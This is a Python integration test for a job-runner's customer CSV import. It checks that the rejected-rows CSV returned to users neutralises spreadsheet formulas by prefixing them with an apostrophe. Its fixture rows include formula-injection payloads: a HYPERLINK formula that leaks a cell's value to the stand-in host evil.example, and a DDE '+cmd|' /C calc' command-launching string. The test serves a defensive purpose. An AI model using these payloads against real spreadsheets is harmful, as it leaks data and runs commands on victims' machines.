"""Issue 9, item 9 (first half): the rejected-rows CSV of an import repeats the uploaded
rows, so a cell a spreadsheet would run as a formula gets the apostrophe CSV exports give
it (one rule: ``reports/formulas.py``). Through the real path: upload, import by a worker,
download by the signed link."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path

import asyncpg
import httpx
import pytest

from jobrunner.settings import Settings
from jobrunner.worker.loop import Worker
from tests.integration.api.conftest import auth
from tests.integration.jobtypes.conftest import start_job, wait_final
from tests.integration.worker.conftest import fast_settings

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return fast_settings(data_dir=tmp_path / "data", pool_min_size=1)


@pytest.fixture
async def worker(database_url: str, settings: Settings) -> AsyncIterator[Worker]:
    async with Worker(database_url, settings, concurrency=2, worker_id="rejected-rows-test").running() as w:
        yield w


async def test_rejected_rows_file_neutralises_formulas(
    client: httpx.AsyncClient, worker: Worker, db: asyncpg.Connection
) -> None:
    await db.execute(
        "INSERT INTO customers (organization_id, name, email, country)"
        " VALUES ('org_acme', 'Old', 'old@example.com', 'DE')"
    )
    rows = [
        ["name", "email", "country"],
        [FORMULA, "not-an-email", "DE"],  # rejected while parsing
        ["+cmd|' /C calc'!A0", "plus@example.com", "Germany"],  # rejected while parsing
        ["-2+3", "@SUM(1+1)", "\tDE"],  # rejected while parsing
        ["Fine", "fine@example.com", "FR"],  # imported
        ["@SUM(A1:A9)", "fine@example.com", "FR"],  # a duplicate within the file (write step)
        ["=1+1", "old@example.com", "DE"],  # already in the database (write step)
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    response = await client.post(
        "/v1/uploads?filename=hostile.csv",
        content=buffer.getvalue().encode(),
        headers={**auth("user_admin"), "Content-Type": "text/csv"},
    )
    assert response.status_code == 201, response.text
    job = await wait_final(
        client,
        await start_job(
            client,
            "data_processing",
            {"operation": "import", "dataset": "customers", "uploadId": response.json()["uploadId"], "mode": "insert"},
        ),
    )
    assert job["status"] == "succeeded", job
    assert (job["result"]["inserted"], job["result"]["rejected"]) == (1, 5)

    response = await client.get(job["result"]["rejectedRowsUrl"])
    assert response.status_code == 200, response.text
    listed = {int(row[0]): row[2:] for row in csv.reader(io.StringIO(response.text, newline="")) if row[0] != "line"}
    assert listed == {
        2: ["'" + FORMULA, "not-an-email", "DE"],
        3: ["'+cmd|' /C calc'!A0", "plus@example.com", "Germany"],
        4: ["'-2+3", "'@SUM(1+1)", "'\tDE"],
        6: ["'@SUM(A1:A9)", "fine@example.com", "FR"],
        7: ["'=1+1", "old@example.com", "DE"],
    }
    # Only the file handed out is changed: what was imported is stored as it was sent.
    assert await db.fetchval("SELECT name FROM customers WHERE email = 'fine@example.com'") == "Fine"
